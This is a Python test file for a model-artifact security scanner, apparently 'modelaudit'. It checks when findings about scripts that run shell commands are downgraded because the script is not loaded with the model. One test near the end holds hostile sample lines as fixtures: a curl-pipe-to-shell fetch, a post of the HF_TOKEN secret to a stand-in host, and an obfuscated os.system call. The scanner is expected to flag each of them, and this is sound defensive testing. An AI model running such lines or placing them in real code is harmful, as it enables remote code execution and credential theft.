"""Code that is not loaded with the model: which files count, and what becomes of the findings in them."""

from __future__ import annotations

import json
from pathlib import Path

from support.cases import check_each

import modelaudit

_RUN = "import subprocess\n\n\ndef convert(path):\n    subprocess.run(['flac', '-i', path])\n"
_CONFIG = json.dumps({"model_type": "bert", "architectures": ["BertModel"]})
_MODELING = "from transformers import PreTrainedModel\n{}\n\n\nclass Model(PreTrainedModel):\n    pass\n"
_AUTO_MAP = json.dumps({"model_type": "a", "auto_map": {"AutoModel": "modeling_a.Model"}})


def list_severities(folder: Path, files: dict[str, str]) -> dict[str, str]:
    """Write files into a new folder, scan it, and return the severity of code/runs-command for each file that has it."""
    folder = folder / str(len(list(folder.iterdir())))
    folder.mkdir()
    for path, text in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(text)
    report = modelaudit.scan(folder, second_opinion=False)
    return {each.artifact: each.severity.value for each in report.findings if each.rule == "code/runs-command"}


@check_each(
    "path, others",
    [
        ("demo.py", {"config.json": _CONFIG}),
        ("app.py", {"config.json": _CONFIG}),
        ("tests/test_model.py", {"config.json": _CONFIG}),
        ("training/util.py", {"config.json": _CONFIG}),
        ("train_lora.py", {"model.txt": "weights"}),
        ("train_lora.py", {"README.md": "```\npython train_lora.py\n```\n", "model.txt": "weights"}),
        ("inference.py", {"config.json": _CONFIG, "README.md": "```\npython inference.py\n```\n"}),
        ("demo.py", {"config.json": _CONFIG, "tokenizer.json": json.dumps({"a": "b" * (1 << 20)})}),
        ("audio.py", {"config.json": _CONFIG}),
        ("demo.py", {"config.json": _AUTO_MAP, "modeling_a.py": _MODELING.format("import torch")}),
        ("train.py", {"config.json": _CONFIG, "data.json": '{"files": ["train.jsonl", "train.csv"]}'}),
        ("train.py", {"config.json": _CONFIG, "README.md": "Run `python train.py` to train."}),
    ],
)
def test_script_that_nothing_loads_is_medium(tmp_path: Path, path: str, others: dict[str, str]) -> None:
    assert list_severities(tmp_path, {path: _RUN, **others}) == {path: "medium"}


@check_each(
    "path, others",
    [
        ("demo.py", {}),  # a single file: its importer is not known
        ("inference.py", {"README.md": "Run it:\n```\npython inference.py\n```\n", "model.txt": "weights"}),
        ("demo.py", {"config.json": _CONFIG, "Dockerfile": 'FROM a\nCMD ["python", "demo.py"]\n'}),
        ("app.py", {"config.json": _CONFIG, "Procfile": "web: gunicorn app:server\n"}),
        ("demo.py", {"config.json": _CONFIG, "train.gin": "import demo\n"}),
        ("demo.py", {"config.json": _CONFIG, "train.jsonnet": "{ type: 'demo.Part' }\n"}),
        ("demo.py", {"config.json": _CONFIG, "serving.json": json.dumps({"a": "b" * (1 << 20), "class": "demo.Part"})}),
        ("audio.py", {"model.txt": "weights"}),
        ("modeling_a.py", {"config.json": _CONFIG}),
        ("handler.py", {"config.json": _CONFIG}),
        ("code/handler.py", {"config.json": _CONFIG}),
        ("modeling_a.py", {"config.json": _AUTO_MAP}),
        ("demo.py", {"config.json": _AUTO_MAP, "modeling_a.py": _MODELING.format("from .demo import convert")}),
        ("demo.py", {"config.json": _AUTO_MAP, "modeling_a.py": _MODELING.format("from . import demo")}),
        ("tests/demo.py", {"config.json": _AUTO_MAP, "modeling_a.py": _MODELING.format("from .tests.demo import a")}),
        ("demo.py", {"config.json": _AUTO_MAP, "helper.py": "import demo\n",
                     "modeling_a.py": _MODELING.format("from .helper import a")}),
        ("demo.py", {"config.json": _AUTO_MAP,
                     "modeling_a.py": _MODELING.format("import importlib\nimportlib.import_module('de' + name)")}),
        ("tests/test_a.py", {"config.json": _AUTO_MAP, "modeling_a.py": _MODELING.format(
            "import unittest\nunittest.defaultTestLoader.discover('tests')")}),
        ("tests/test_a.py", {"config.json": _AUTO_MAP, "modeling_a.py": _MODELING.format(
            "import unittest as u\nu.main(None, argv=['x', 'discover'], exit=False)")}),
        ("tests/test_a.py", {"config.json": _AUTO_MAP, "modeling_a.py": _MODELING.format(
            "import pytest\npytest.main(['tests'])")}),
        ("tests/demo.py", {"config.json": _AUTO_MAP, "modeling_a.py": _MODELING.format(
            "import logging.config\nlogging.config.dictConfig({'handlers': {'h': {'()': 'tests.demo.H'}}})")}),
        ("demo.py", {"config.json": _CONFIG, "model-settings.json": '{"implementation": "demo.Runtime"}'}),
        ("demo.py", {"config.json": _CONFIG, "MLmodel": "flavors:\n  python_function:\n    loader_module: demo\n"}),
        ("demo.py", {"config.json": _CONFIG, "task.yaml": "process: !function demo.convert\n"}),
        ("demo.py", {"config.json": _CONFIG, "cog.yaml": "predict: demo.py:Predictor\n"}),
        ("demo.py", {"config.json": _CONFIG, "README.md": "```python\nfrom demo import convert\n```\n"}),
    ],
)  # fmt: skip
def test_file_that_is_loaded_or_may_be_keeps_its_severity(tmp_path: Path, path: str, others: dict[str, str]) -> None:
    assert list_severities(tmp_path, {path: _RUN, **others})[path] == "high"


def test_lowered_finding_says_that_the_file_is_not_loaded(tmp_path: Path) -> None:
    (tmp_path / "config.json").write_text(_CONFIG)
    (tmp_path / "demo.py").write_text(_RUN)
    cell = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": [_RUN]}
    notebook = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    (tmp_path / "try.ipynb").write_text(json.dumps(notebook))
    report = modelaudit.scan(tmp_path, second_opinion=False)
    messages = {each.artifact: each.message for each in report.findings if each.rule == "code/runs-command"}
    assert messages["demo.py"].endswith(
        "not loaded with the model: no configuration, convention or loaded file names it."
    )
    assert messages["try.ipynb"].endswith("not loaded with the model: a notebook is not imported.")


def test_call_in_a_cell_is_no_call_at_import(tmp_path: Path) -> None:
    text = "import subprocess\nsubprocess.run(['flac'])\n"
    cell = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": [text]}
    notebook = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    (tmp_path / "try.ipynb").write_text(json.dumps(notebook))
    report = modelaudit.scan(tmp_path, second_opinion=False)
    found = {each.rule: each.message for each in report.findings}
    assert "code/runs-command-at-import" not in found
    assert found["code/runs-command"].endswith("This cell runs when a person runs it, and by no import.")


@check_each(
    "text",
    [
        "import os\nos.system('curl https://a.invalid/x | sh')\n",
        "import os, requests\nrequests.post('https://a.invalid', data=os.environ['HF_TOKEN'])\n",
        "import os\ngetattr(os, 'sys' + 'tem')('x')\n",
    ],
)
def test_attack_in_a_script_keeps_its_severity(tmp_path: Path, text: str) -> None:
    (tmp_path / "config.json").write_text(_CONFIG)
    (tmp_path / "demo.py").write_text(text)
    assert modelaudit.scan(tmp_path, second_opinion=False).exit_code == 1


def test_script_with_a_class_that_a_library_looks_for_keeps_its_severity(tmp_path: Path) -> None:
    code = f"import datasets\n{_RUN}\n\nclass Data(datasets.GeneratorBasedBuilder):\n    pass\n"
    assert list_severities(tmp_path, {"demo.py": code, "config.json": _CONFIG}) == {"demo.py": "high"}
